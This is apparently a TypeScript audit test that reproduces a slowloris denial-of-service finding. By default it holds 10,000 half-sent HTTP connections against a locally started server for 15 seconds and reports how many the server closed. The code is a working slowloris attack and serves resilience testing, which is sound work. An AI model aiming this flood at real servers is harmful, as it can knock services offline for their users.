import { connect, type Socket } from 'node:net';
import { duringAttack, report, startTarget } from './harness.js';

/**
 * Finding 1: thousands of connections from one address, each sending part of a header and
 * then nothing. `ATTACK_SOCKETS` (default 10,000) are opened from 127.0.0.1 and held for
 * `ATTACK_HOLD_S` (default 15) seconds.
 */
const SOCKETS = Number(process.env.ATTACK_SOCKETS ?? 10_000);
const HOLD_S = Number(process.env.ATTACK_HOLD_S ?? 15);

const target = await startTarget();
const { port } = new URL(target.server.url);
const sockets: Socket[] = [];
let refused = 0;
try {
  const figures = await duringAttack(target, async () => {
    for (let i = 0; i < SOCKETS; i += 500) {
      await Promise.all(
        Array.from({ length: Math.min(500, SOCKETS - i) }, () => {
          const socket = connect({ port: Number(port), host: '127.0.0.1', allowHalfOpen: true });
          sockets.push(socket);
          socket.on('error', () => undefined);
          socket.once('end', () => refused++);
          return new Promise<void>((resolve) => {
            socket.once('connect', () => (socket.write('GET /health HTTP/1.1\r\nHost: x\r\nX-Slow: '), resolve()));
            socket.once('error', () => resolve());
          });
        }),
      );
    }
    await new Promise((resolve) => setTimeout(resolve, HOLD_S * 1000));
  });
  report('slow-loris', figures, { sockets: SOCKETS, 'closed by the server': refused });
} finally {
  for (const s of sockets) s.destroy();
  await target.close();
}
